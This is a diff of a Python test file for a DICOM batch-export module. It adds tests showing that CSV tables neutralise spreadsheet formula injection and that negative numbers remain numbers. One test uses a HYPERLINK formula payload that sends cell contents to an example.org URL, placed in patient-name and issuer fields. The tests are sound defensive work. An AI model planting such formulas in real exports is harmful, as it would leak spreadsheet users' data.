@@ -1,5 +1,7 @@
 """Rules of a batch: what it asks for, when, how it takes a refusal, what goes first."""
 
+import csv
+import json
 from collections.abc import Callable, Sequence
 from datetime import UTC, date, datetime
 from pathlib import Path
@@ -18,13 +20,14 @@ from dicom_node.batch.hours import hours_from
 from dicom_node.batch.listing import StudyQuery, by_query, list_from_file
 from dicom_node.batch.order import order_from
 from dicom_node.batch.plan import estimate
-from dicom_node.batch.table import TableFormat, table_rows, write_table
+from dicom_node.batch.table import COLUMNS, Row, TableFormat, table_rows, write_table
 from dicom_node.retrieve.association import StopSwitch, conversation
 from dicom_node.retrieve.find import FIND_OFFER
 from storage.batch_records import BatchState, BatchStudyState, BatchView
 from storage.database import open_engine
 from storage.index import Index
 from storage.migrations import migrate
+from storage.records import PatientKey
 
 
 def make_index(folder: Path, clock: FakeClock) -> Index:
@@ -212,3 +215,29 @@ def test_a_table_has_a_row_for_each_study_from_the_start(tmp_path: Path, form: T
     assert b"1.2.2" in path.read_bytes()
     assert not list(tmp_path.glob(".*part"))
     index.close()
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_table_has_no_formula_of_a_sender(tmp_path: Path, sign: str) -> None:
+    """A mark stands before it; the form that programs read has the value as it came."""
+    index = make_index(tmp_path, FakeClock())
+    name = f'{sign}HYPERLINK("http://example.org/?"&A1,"x")'
+    index.record_received([received("1.2.3", patient_name=name, patient=PatientKey(patient_id="4711", issuer=name))])
+    number = index.batches.begin(plan(), {"1.2.3": "20250101"})
+    for form in (TableFormat.CSV, TableFormat.JSONL):
+        rows = table_rows(index, number, with_patients=True)
+        write_table(tmp_path / f"table.{form}", rows, form, with_patients=True)
+    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["patient_name"], row["issuer"], row["patient_id"]) == (f"'{name}", f"'{name}", "4711")
+    assert json.loads((tmp_path / "table.jsonl").read_text())["patient_name"] == name
+    index.close()
+
+
+def test_a_negative_number_in_a_csv_table_stays_a_number(tmp_path: Path) -> None:
+    """Only texts are marked."""
+    rows: list[Row] = [dict.fromkeys(COLUMNS) | {"lesion_volume_ml": -1.5, "words": "-"}]
+    write_table(tmp_path / "table.csv", rows, TableFormat.CSV, with_patients=False)
+    with (tmp_path / "table.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["lesion_volume_ml"], row["words"]) == ("-1.5", "'-")
